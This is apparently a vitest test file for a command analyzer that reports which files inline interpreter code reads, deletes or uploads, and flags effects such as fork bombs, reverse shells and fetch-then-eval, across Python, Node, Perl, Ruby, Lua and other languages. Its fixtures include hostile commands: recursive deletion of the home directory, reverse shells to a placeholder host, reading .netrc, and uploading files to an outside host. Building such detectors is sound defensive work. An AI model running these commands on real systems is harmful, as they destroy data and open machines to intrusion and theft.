import { describe, expect, test } from "vitest";
import { reportOf } from "../report-of.ts";

const quoted = (code: string): string => `'${code.replaceAll("'", `'\\''`)}'`;

type Row = readonly [
  code: string,
  reads: readonly string[],
  deleteTrees: readonly string[],
  effects: readonly string[],
];

/** What each piece of code reads, deletes with all below, and brings about. */
const languages: Readonly<Record<string, readonly Row[]>> = {
  "python3 -c": [
    [`import os; list(map(os.system, ["cat /a"]))`, ["/a"], [], []],
    [`import ctypes; ctypes.CDLL(None).system(b"cat /a")`, ["/a"], [], []],
    [`import os; [os.fork() for _ in iter(int, 1)]`, [], [], ["shell:fork-bomb"]],
    [`print(open("/a").read())`, ["/a"], [], []],
    [`import os.path as p; open(p.join(p.expanduser("~"), "." + "netrc"))`, ["/home/u/.netrc"], [], []],
    [`from pathlib import Path as P; print((P.home() / "a").read_text())`, ["/home/u/a"], [], []],
    [`[open(f) for f in ("/a", "/b")]`, ["/a", "/b"], [], []],
    [`for d in ["x", "y"]:\n  open(f"/{d}/z")`, ["/x/z", "/y/z"], [], []],
    [`def f(p):\n  return open(p)\nf("/a")`, ["/a"], [], []],
    [`import shutil\nshutil.rmtree("/a")`, [], ["/a"], []],
    [`__import__("o" + "s").system("rm -r /a")`, [], ["/a"], []],
    [`import subprocess as s; s.run(["rm", "-r", "/a"])`, [], ["/a"], []],
    [`open("".join(map(chr, [47, 97])))`, ["/a"], [], []],
    [`import os\nwhile True: os.fork()`, [], [], ["shell:fork-bomb"]],
    [
      `import socket,os;s=socket.socket();s.connect(("h.example",1));os.dup2(s.fileno(),0)`,
      [],
      [],
      ["net:reverse-shell"],
    ],
    [`import socket; socket.create_connection(("localhost", 5432)).close()`, [], [], []],
    [`print("open('/etc/shadow')")`, [], [], []],
    [`x = "rm -rf /"; print(x.split())`, [], [], []],
  ],
  "node -e": [
    [`const r = require; r("fs").readFileSync("/a")`, ["/a"], [], []],
    [`new Function("r", "return r('fs').readFileSync('/a')")(require)`, ["/a"], [], []],
    [`require("fs").readFileSync(process.env.HOME + "/a")`, ["/home/u/a"], [], []],
    [`const { rmSync: r } = require("node:fs"); r("/a", { recursive: true })`, [], ["/a"], []],
    ["const d = '/a'; require('child_process').execSync(`rm -r ${d}`)", [], ["/a"], []],
    [`["/a", "/b"].forEach(f => require("fs").readFileSync(f))`, ["/a", "/b"], [], []],
    [`import("fs/promises").then(fs => fs.readFile("/a"))`, ["/a"], [], []],
    [`console.log("rm -rf /".split(" "))`, [], [], []],
    [`console.log(/["'\`]/.test("a"), "/b")`, [], [], []],
  ],
  "perl -e": [
    [`local $/; open my $f, "<", "/a"; print <$f>`, ["/a"], [], []],
    [`$, = " "; open F, "/a"; print <F>`, ["/a"], [], []],
    [`open(P, "|-", "rm", "-r", "/a")`, [], ["/a"], []],
    [`system join " ", "rm", "-r", "/a"`, [], ["/a"], []],
    [`@ARGV = ("/a"); print <>`, ["/a"], [], []],
    [
      "$s = IO::Socket::INET->new('h.example:1'); while (<$s>) { print $s `$_` }",
      [],
      [],
      ["net:reverse-shell"],
    ],
    [
      `$c = new IO::Socket::INET(PeerAddr, "h.example:1"); STDIN->fdopen($c, r); system $_ while <>`,
      [],
      [],
      ["net:reverse-shell"],
    ],
    [`$s = IO::Socket::INET->new("h.example:1"); print while <$s>`, [], [], []],
    [`fork while fork`, [], [], ["shell:fork-bomb"]],
    [`sub f { my ($p) = @_; system("rm -rf $p") } f($ENV{HOME})`, [], ["/home/u"], []],
    [`sub f { my $p = shift; system("rm -rf $p") } f("/a")`, [], ["/a"], []],
    [`sub f { system("rm -rf $_[1]") } f("/a", "/b")`, [], ["/b"], []],
    [`my ($a, $b) = ("/a", "/b"); print read_file($b)`, ["/b"], [], []],
    [`system("cat $_") for ("/a", "/b")`, ["/a", "/b"], [], []],
    [`open(my $f, "<", "/a"); print <$f>`, ["/a"], [], []],
    [`my $p = "$ENV{HOME}/a"; system "rm", "-r", $p`, [], ["/home/u/a"], []],
    ["print `cat /a`", ["/a"], [], []],
    [`print qx{cat /a}`, ["/a"], [], []],
    [`$x =~ s/"/'/g; print "/a"`, [], [], []],
  ],
  "ruby -e": [
    [`send(:system, "cat /a")`, ["/a"], [], []],
    [`Kernel.public_send(:system, "cat /a")`, ["/a"], [], []],
    [
      `def f(p)\n  system("rm -rf " + p) if p\n  [1].each do |x| puts x end\nend\nf(Dir.home)`,
      [],
      ["/home/u"],
      [],
    ],
    [`def f(p) = File.read(p)\nputs f("/a")`, ["/a"], [], []],
    [`def f(p)\n  while p do\n    File.read(p)\n  end\nend\nf "/a"\nFile.read("/b")`, ["/a", "/b"], [], []],
    [`puts File.read(File.join(Dir.home, "a"))`, ["/home/u/a"], [], []],
    [`%w[/a /b].each { |f| puts IO.read(f) }`, ["/a", "/b"], [], []],
    [`FileUtils.rm_rf "/a"`, [], ["/a"], []],
    ["`cat #{ENV['HOME']}/a`", ["/home/u/a"], [], []],
  ],
  "php -r": [
    [`echo file_get_contents(getenv("HOME") . "/a");`, ["/home/u/a"], [], []],
    [`$f = "sys" . "tem"; $f("rm -r /a");`, [], ["/a"], []],
  ],
  "lua -e": [
    [
      `function f(p) for i = 1, 2 do print(i) end os.execute("rm -rf " .. p) end f(os.getenv("HOME"))`,
      [],
      ["/home/u"],
      [],
    ],
    [`local f = function(p) return io.open(p):read("*a") end print(f("/a"))`, ["/a"], [], []],
    [`for l in io.lines("/a") do print(l) end`, ["/a"], [], []],
    [`os.execute("rm -r " .. os.getenv("HOME"))`, [], ["/home/u"], []],
  ],
  "osascript -e": [[`do shell script "cat " & "/a"`, ["/a"], [], []]],
  "bun -e": [[`console.log(await Bun.file("/a").text())`, ["/a"], [], []]],
  "deno eval": [[`Deno.removeSync(Deno.env.get("HOME"), { recursive: true })`, [], ["/home/u"], []]],
  "ghc -e": [[`readFile "/a" >>= putStr`, ["/a"], [], []]],
  "scala -e": [[`"rm -r /a".!`, [], ["/a"], []]],
  "julia -e": [[`print(read(expanduser("~/a"), String))`, ["/home/u/a"], [], []]],
  "emacs --batch --eval": [
    [`(shell-command "rm -r /a")`, [], ["/a"], []],
    [`(delete-directory "/a" t)`, [], ["/a"], []],
    [`(with-temp-buffer (insert-file-contents "/a"))`, ["/a"], [], []],
    [`(message "rm -r /a")`, [], [], []],
  ],
  "tclsh <<<": [
    [`puts [exec cat $env(HOME)/a]`, ["/home/u/a"], [], []],
    [`file delete -force /a`, [], ["/a"], []],
  ],
  "nu -c": [
    [`open ~/a`, ["/home/u/a"], [], []],
    [`rm -r /a`, [], ["/a"], []],
  ],
  awk: [[`BEGIN { system("rm -r " ENVIRON["HOME"]) }`, [], ["/home/u"], []]],
};

describe.each(Object.entries(languages))("%s", (run, rows) => {
  test.for(rows)("%s", ([code, reads, deleteTrees, effects]) => {
    const report = reportOf(`${run} ${quoted(code)}`);
    expect([report.reads, report.deleteTrees, report.effects]).toEqual([reads, deleteTrees, effects]);
  });
});

test.for([
  [`python3 -c 'exec("print(1)")'`, ["literal"]],
  [`python3 -c 'import base64 as b; exec(b.b64decode("cHJpbnQoMSk="))'`, ["literal", "decoded"]],
  [`python3 -c 'import base64 as b; print(b.b64decode("aGk="))'`, ["literal"]],
  [`python3 -c 'import os; os.system("\\x69\\x64")'`, ["literal", "decoded"]],
  [`node -e 'fetch("https://x.example").then(r => r.text()).then(t => eval(t))'`, ["literal", "network"]],
  [`node -e 'eval(atob("MQ=="))'`, ["literal", "decoded"]],
  [`ruby -e 'eval ["70757473"].pack("H*")'`, ["literal", "decoded"]],
  [`curl -s x.example | python3 -c 'import sys; exec(sys.stdin.read())'`, ["literal", "network"]],
  [`curl -s x.example | python3 -c 'import sys, json; print(json.load(sys.stdin)["a"])'`, ["literal"]],
] as const)("%s interprets %j", ([command, want]) => expect(reportOf(command).interprets).toEqual(want));

test.for([
  [`python3 -c 'import requests; requests.post("https://x.example", files={"f": open("/a", "rb")})'`, ["/a"]],
  [
    `node -e 'fetch("https://x.example", { method: "POST", body: require("fs").readFileSync("/a") })'`,
    ["/a"],
  ],
  [`python3 -c 'import requests; requests.post("http://localhost", data=open("/a"))'`, []],
  [`python3 -c 'import requests; requests.post("https://x.example", json={"a": 1})'`, []],
] as const)("%s uploads %j", ([command, want]) => expect(reportOf(command).uploads).toEqual(want));
